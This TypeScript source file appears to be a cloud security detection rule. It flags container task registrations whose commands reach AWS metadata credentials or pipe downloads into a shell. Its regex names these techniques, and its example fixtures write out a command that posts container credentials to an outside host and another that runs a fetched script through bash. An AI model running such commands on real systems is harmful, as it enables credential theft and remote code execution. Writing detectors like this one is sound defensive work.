import { text } from '../../../kernel/index.ts';
import type { Detection } from '../../detection.ts';
import type { TrailRecord } from '../../event.ts';
import { call, denied, example } from '../data/examples.ts';
import { api, machinery, named, requestOf, strings, who } from '../data/reading.ts';

const REACHES =
  /169\.254\.1(69\.254|70\.2)|AWS_CONTAINER_CREDENTIALS_(RELATIVE|FULL)_URI|\/dev\/tcp\/|\b(curl|wget)\b[^|]{0,300}\|\s{0,8}(ba|z|da)?sh\b|\bnc\b.{0,40}\s-e\s|base64\s+(-d|--decode)[^|]{0,80}\|\s{0,8}(ba)?sh\b/;
const commands = (record: TrailRecord) => strings(requestOf(record)).join(' ').slice(0, 50_000);

export const detection: Detection = {
  title: text('Container whose command reaches for credentials or brings its own shell', 'Contenedor cuya orden busca credenciales o trae su propia consola'),
  description: text(
    "The task's command asks the metadata address, reads its credentials, or pipes a download into a shell. Nothing ordinary does that.",
    'La orden de la tarea pregunta a la dirección de metadatos, lee sus credenciales o pasa una descarga a una consola. Nada corriente lo hace.',
  ),
  severity: 'critical',
  attack: ['T1552.005', 'T1552.007'],
  apis: [
    'ecs:RegisterTaskDefinition',
    'ecs:RunTask',
    'ecs:StartTask',
    'batch:RegisterJobDefinition',
    'batch:SubmitJob',
    'sagemaker:CreateProcessingJob',
    'apprunner:CreateService',
  ],
  when: (record) =>
    machinery(record) || !REACHES.test(commands(record))
      ? undefined
      : text(
          `${who(record)} called ${api(record)} for ${named(record, 'family', 'taskDefinition', 'jobName', 'jobDefinitionName')} with a command that reaches for credentials or a shell.`,
          `${who(record)} llamó a ${api(record)} para ${named(record, 'family', 'taskDefinition', 'jobName', 'jobDefinitionName')} con una orden que busca credenciales o una consola.`,
        ),
  examples: {
    hits: [
      example(
        'credentials posted',
        call('ecs:RegisterTaskDefinition', {
          family: 'x',
          containerDefinitions: [
            { name: 'a', image: 'python', command: ['sh', '-c', 'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://example.net'] },
          ],
        }),
      ),
      example(
        'a download run, refused',
        denied('ecs:RunTask', {
          taskDefinition: 'x',
          overrides: { containerOverrides: [{ name: 'a', command: ['sh', '-c', 'curl https://example.net/x | bash'] }] },
        }),
      ),
    ],
    quiet: [
      example(
        'an ordinary task',
        call('ecs:RegisterTaskDefinition', { family: 'web', containerDefinitions: [{ name: 'web', image: 'nginx', command: ['nginx', '-g', 'daemon off;'] }] }),
      ),
      example(
        'a health check',
        call('ecs:RegisterTaskDefinition', {
          family: 'web',
          containerDefinitions: [{ name: 'web', healthCheck: { command: ['CMD-SHELL', 'curl -f http://localhost/ || exit 1'] } }],
        }),
      ),
    ],
  },
};
